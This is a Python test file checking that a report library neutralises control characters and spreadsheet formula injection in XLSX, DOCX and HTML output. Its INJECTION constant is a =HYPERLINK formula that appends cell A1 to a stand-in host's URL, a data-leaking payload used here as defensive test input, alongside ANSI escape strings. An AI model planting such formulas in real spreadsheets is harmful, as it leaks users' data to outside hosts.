"""Document text written to XML and spreadsheets: no crash on a control character, no formula.

Issue 22 items 2 and 4: an ESC after "55%" made openpyxl and lxml refuse the
whole report; a line beginning "=HYPERLINK(...)" became a live formula.
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import reports
from reports.cells import FORMULA_STARTS, cell_value, guard_formula, xml_safe
from reports.model import AuditReport, Report
from tests.test_reports_data import check_result, child_plan, parent_plan

INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def test_xml_safe_shows_each_control_character_as_a_visible_sign() -> None:
    assert xml_safe("đạt 55%\x1b trở lên") == "đạt 55%␛ trở lên"
    assert xml_safe("a\x00b\x08c") == "a␀b␈c"
    assert xml_safe("tab\tnew\nline\r") == "tab\tnew\nline\r"  # XML holds these
    assert xml_safe("x\ufffey\ud800") == "x\ufffdy\ufffd"


@given(st.text())
def test_xml_safe_output_is_always_storable_and_clean_text_is_kept(text: str) -> None:
    cleaned = xml_safe(text)
    assert len(cleaned) == len(text)
    assert xml_safe(cleaned) == cleaned
    assert all(
        char in "\t\n\r" or 0x20 <= ord(char) <= 0xD7FF or 0xE000 <= ord(char) <= 0xFFFD
        or ord(char) >= 0x10000
        for char in cleaned
    )


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_stored_as_quoted_text(start: str, tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    cell = workbook.active.cell(1, 1, cell_value(f"{start}1+1"))
    guard_formula(cell)
    workbook.save(tmp_path / "x.xlsx")
    stored = openpyxl.load_workbook(tmp_path / "x.xlsx").active.cell(1, 1)
    assert stored.value == f"{start}1+1" and stored.data_type == "s" and stored.quotePrefix


def test_cell_value_keeps_numbers_dates_and_plain_text() -> None:
    assert cell_value(11) == 11 and cell_value(0.5) == 0.5 and cell_value(None) is None
    assert cell_value("Tỷ lệ 55%") == "Tỷ lệ 55%"


def _hostile_report() -> Report:
    result = check_result()
    finding = result.findings[0]
    finding.evidence.child = INJECTION
    finding.message = f"Chỉ tiêu đạt 55%\x1b thấp hơn cấp trên {finding.message}"
    result.child.name = "kế hoạch\x1b[31m.txt"
    return reports.build_report(result, child_plan(), parent_plan())


@pytest.fixture(scope="module")
def hostile_audit() -> AuditReport:
    return reports.build_audit([_hostile_report()], [])


def test_audit_workbook_holds_no_formula_and_no_crash(
    hostile_audit: AuditReport, tmp_path: Path
) -> None:
    path = tmp_path / "audit.xlsx"
    reports.render_audit_xlsx(hostile_audit, path)
    workbook = openpyxl.load_workbook(path)
    values = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(cell.data_type != "f" for cell in values)
    injected = [cell for cell in values if cell.value == INJECTION]
    assert injected and all(cell.data_type == "s" and cell.quotePrefix for cell in injected)
    # A plan's bullet line shows as written, with no apostrophe put before it.
    assert not any(cell.value.startswith("'") for cell in values)
    texts = [cell.value for cell in values]
    assert any("55%␛ thấp hơn" in text for text in texts)
    assert any("kế hoạch␛[31m.txt" in text for text in texts)


def test_docx_review_note_survives_a_control_character(tmp_path: Path) -> None:
    path = tmp_path / "note.docx"
    reports.render_docx(_hostile_report(), path)
    import docx

    document = docx.Document(str(path))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any("55%␛ thấp hơn" in text for text in cells)


def test_html_report_shows_the_placeholder_not_the_control_character() -> None:
    html = reports.render_html(_hostile_report())
    assert "\x1b" not in html
    assert "55%␛ thấp hơn" in html
